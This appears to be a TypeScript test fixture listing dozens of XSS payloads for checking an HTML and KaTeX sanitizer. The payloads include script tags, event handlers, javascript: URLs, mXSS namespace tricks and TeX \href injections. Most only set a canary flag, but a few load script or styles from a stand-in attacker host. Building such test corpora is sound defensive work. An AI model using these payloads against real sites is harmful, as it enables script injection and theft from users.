// XSS vectors for the store/render path. Each sets `window.__pwned` if it ever runs, so the same corpus serves the
// happy-dom structure checks here and the real-browser canary later. Sources of the shapes: the OWASP XSS filter
// evasion cheat sheet, DOMPurify's own test fixtures (mXSS, namespace confusion), and KaTeX's trust documentation.

/** One attack string and what it tries. */
export type XssVector = { name: string; payload: string };

const P = 'window.__pwned=1';

/** At least fifty XSS payloads: script tags, event handlers, javascript: URLs, SVG, CSS, srcdoc, meta refresh, mXSS, KaTeX. */
export const XSS_VECTORS: readonly XssVector[] = [
  { name: 'plain script', payload: `<script>${P}</script>` },
  { name: 'script with src', payload: '<script src="https://evil.example/x.js"></script>' },
  { name: 'uppercase script', payload: `<SCRIPT>${P}</SCRIPT>` },
  { name: 'script split by null', payload: `<scr\u0000ipt>${P}</scr\u0000ipt>` },
  { name: 'nested script trick', payload: `<scr<script>ipt>${P}</scr</script>ipt>` },
  { name: 'img onerror', payload: `<img src=x onerror="${P}">` },
  { name: 'img onerror no quotes', payload: `<img src=x onerror=${P}>` },
  { name: 'img onload', payload: `<img src="data:image/png;base64,iVBORw0KGgo=" onload="${P}">` },
  { name: 'svg onload', payload: `<svg onload="${P}"></svg>` },
  { name: 'svg script', payload: `<svg><script>${P}</script></svg>` },
  {
    name: 'svg animate href',
    payload: `<svg><a><animate attributeName="href" values="javascript:${P}"/><text y="20">x</text></a></svg>`,
  },
  {
    name: 'svg use data url',
    payload: `<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/></svg>`,
  },
  {
    name: 'svg foreignObject',
    payload: `<svg><foreignObject><iframe srcdoc="<script>${P}</script>"></iframe></foreignObject></svg>`,
  },
  { name: 'math href', payload: `<math><mtext><a href="javascript:${P}">x</a></mtext></math>` },
  { name: 'body onload', payload: `<body onload="${P}">` },
  { name: 'div onmouseover', payload: `<div onmouseover="${P}">hover</div>` },
  { name: 'p onclick', payload: `<p onclick="${P}">click</p>` },
  { name: 'details ontoggle', payload: `<details open ontoggle="${P}"><summary>x</summary></details>` },
  { name: 'input onfocus autofocus', payload: `<input autofocus onfocus="${P}">` },
  { name: 'video onerror', payload: `<video><source onerror="${P}"></video>` },
  { name: 'audio src onerror', payload: `<audio src=x onerror="${P}"></audio>` },
  { name: 'marquee onstart', payload: `<marquee onstart="${P}">x</marquee>` },
  { name: 'a javascript href', payload: `<a href="javascript:${P}">link</a>` },
  { name: 'a javascript mixed case', payload: `<a href="JaVaScRiPt:${P}">link</a>` },
  {
    name: 'a javascript entity encoded',
    payload: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__pwned=1">link</a>',
  },
  { name: 'a javascript with tab', payload: `<a href="jav\tascript:${P}">link</a>` },
  { name: 'a javascript leading space', payload: `<a href=" javascript:${P}">link</a>` },
  { name: 'a vbscript', payload: '<a href="vbscript:msgbox(1)">link</a>' },
  { name: 'a data html', payload: `<a href="data:text/html,<script>${P}</script>">link</a>` },
  { name: 'iframe javascript', payload: `<iframe src="javascript:${P}"></iframe>` },
  { name: 'iframe srcdoc', payload: `<iframe srcdoc="<script>${P}</script>"></iframe>` },
  { name: 'object data', payload: `<object data="javascript:${P}"></object>` },
  { name: 'embed src', payload: `<embed src="javascript:${P}">` },
  { name: 'form action', payload: `<form action="javascript:${P}"><button>go</button></form>` },
  { name: 'button formaction', payload: `<button formaction="javascript:${P}">go</button>` },
  { name: 'meta refresh', payload: `<meta http-equiv="refresh" content="0;url=javascript:${P}">` },
  { name: 'base href', payload: '<base href="javascript:/">' },
  { name: 'link stylesheet', payload: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'style expression', payload: `<div style="width: expression(${P})">x</div>` },
  { name: 'style url javascript', payload: `<div style="background:url(javascript:${P})">x</div>` },
  { name: 'style tag import', payload: '<style>@import "https://evil.example/x.css";</style>' },
  { name: 'style tag behaviour', payload: '<style>body{behavior:url(x.htc)}</style>' },
  { name: 'mXSS noscript', payload: `<noscript><p title="</noscript><img src=x onerror=${P}>">` },
  { name: 'mXSS svg style', payload: `<svg></p><style><a id="</style><img src=1 onerror=${P}>">` },
  { name: 'mXSS math mglyph', payload: `<math><mtext><table><mglyph><style><img src=x onerror=${P}>` },
  {
    name: 'mXSS form nesting',
    payload: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${P}>`,
  },
  { name: 'mXSS textarea', payload: `<textarea></textarea><img src=x onerror=${P}>` },
  { name: 'mXSS title', payload: `<title><img src=x onerror=${P}></title>` },
  { name: 'template content', payload: `<template><img src=x onerror=${P}></template>` },
  { name: 'comment breakout', payload: `<!--><img src=x onerror=${P}>-->` },
  { name: 'cdata breakout', payload: `<![CDATA[><img src=x onerror=${P}>]]>` },
  { name: 'attribute breakout', payload: `"><img src=x onerror=${P}>` },
  { name: 'single quote breakout', payload: `'><svg onload=${P}>` },
  {
    name: 'data-lens attribute with script',
    payload: `<span class="lens-math" data-lens-tex="x" onmouseover="${P}">x</span>`,
  },
  { name: 'img src javascript', payload: `<img src="javascript:${P}">` },
  { name: 'img srcset', payload: `<img srcset="javascript:${P} 1x">` },
  { name: 'xlink href', payload: `<svg><a xlink:href="javascript:${P}"><text>x</text></a></svg>` },
  { name: 'isindex action', payload: `<isindex action="javascript:${P}" type=image>` },
  {
    name: 'KaTeX href javascript',
    payload: `<span class="lens-math" data-lens-tex="\\href{javascript:${P}}{click}" data-lens-display="false">x</span>`,
  },
  {
    name: 'KaTeX url javascript',
    payload: `<span class="lens-math" data-lens-tex="\\url{javascript:${P}}" data-lens-display="false">x</span>`,
  },
  {
    name: 'KaTeX htmlData',
    payload: `<span class="lens-math" data-lens-tex="\\htmlData{onclick=${P}}{x}" data-lens-display="false">x</span>`,
  },
  {
    name: 'KaTeX includegraphics',
    payload:
      '<div class="lens-math" data-lens-tex="\\includegraphics{javascript:alert(1)}" data-lens-display="true">x</div>',
  },
  {
    name: 'footnote ref with handler',
    payload: `<sup><a class="lens-fnref" data-lens-footnote="fn1" href="#fn1" onclick="${P}">[1]</a></sup>`,
  },
];

/** The same payloads as bare TeX, for the math renderer. */
export const TEX_VECTORS: readonly string[] = [
  `\\href{javascript:${P}}{click}`,
  `\\url{javascript:${P}}`,
  `\\htmlData{onclick=${P}}{x}`,
  `\\htmlId{x" onclick="${P}}{x}`,
  '\\includegraphics{javascript:alert(1)}',
  `\\href{  JaVaScRiPt:${P}}{x}`,
];
